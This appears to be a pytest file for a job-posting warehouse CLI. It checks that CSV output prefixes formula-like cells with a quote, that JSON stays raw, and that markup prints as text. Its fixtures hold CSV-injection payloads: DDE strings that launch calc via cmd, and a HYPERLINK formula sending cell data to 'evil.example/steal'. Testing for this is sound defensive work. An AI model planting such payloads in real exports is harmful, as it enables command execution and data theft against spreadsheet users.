"""`tpm-match query` output with hostile warehouse text: CSV formulas are neutralised,
JSON stays raw, rich markup in the table is printed as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from flows.cli import app
from flows.commands.warehouse import csv_cell
from matcher.models import Extraction, Requirement
from matcher.taxonomy import Taxonomy
from tests.warehouse.conftest import DAY1, make_posting
from warehouse import Warehouse

runner = CliRunner()
COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://evil.example/steal?x="&A1,"click me")'
LOCATION = "+cmd|' /C calc'!A0"
MARKUP_TITLE = "Program Manager [/] [bold red]loud[/bold red] \\[x]"


@pytest.fixture
def hostile(tmp_path: Path, taxonomy: Taxonomy) -> Path:
    """A published warehouse whose open postings carry formulas and rich markup."""
    postings = [
        make_posting("lever:evil", 1, company=COMPANY, title=TITLE, location=LOCATION),
        make_posting("lever:evil", 2, company=COMPANY, title=MARKUP_TITLE, location="-1+1"),
    ]
    req = Requirement("tool.jira", "Jira", "tool", True, "Jira", 0, 4)
    wh = Warehouse(tmp_path / "wh" / "tpm.duckdb")
    with wh.staging("r1") as st:
        st.load_concepts(taxonomy)
        st.load_postings(postings, crawled_ok={}, seen_at=DAY1)
        st.load_extractions([Extraction(p.id, [req]) for p in postings])
        st.publish()
    return wh.path


def _query(wh: Path, fmt: str) -> str:
    args = ["query", "open_postings_by_company", "-p", f"company={COMPANY}", "--format", fmt]
    result = runner.invoke(app, [*args, "--warehouse", str(wh)], terminal_width=400)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_cells_that_start_a_formula_get_a_leading_quote(hostile: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(_query(hostile, "csv"))))
    by_id = {r["id"]: r for r in rows}
    assert by_id["lever:evil:1"]["title"] == "'" + TITLE
    assert by_id["lever:evil:1"]["location"] == "'" + LOCATION
    assert by_id["lever:evil:2"]["location"] == "'-1+1"  # text, even when it looks like a sum
    assert by_id["lever:evil:2"]["title"] == MARKUP_TITLE  # nothing to neutralise
    assert {r["required_count"] for r in rows} == {"1"}  # numbers stay numbers
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_json_output_stays_raw(hostile: Path) -> None:
    records = {r["id"]: r for r in json.loads(_query(hostile, "json"))}
    assert records["lever:evil:1"]["title"] == TITLE
    assert records["lever:evil:1"]["location"] == LOCATION


@pytest.mark.usefixtures("wide_console")
def test_the_table_prints_markup_as_text(hostile: Path) -> None:
    out = _query(hostile, "table")
    assert MARKUP_TITLE in out and TITLE in out


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),  # text that looks like a number is still text
        (-5, "-5"),  # a negative number is a number
        (-2.5, "-2.5"),
        (["-x"], '["-x"]'),
        ("O'Reilly", "O'Reilly"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
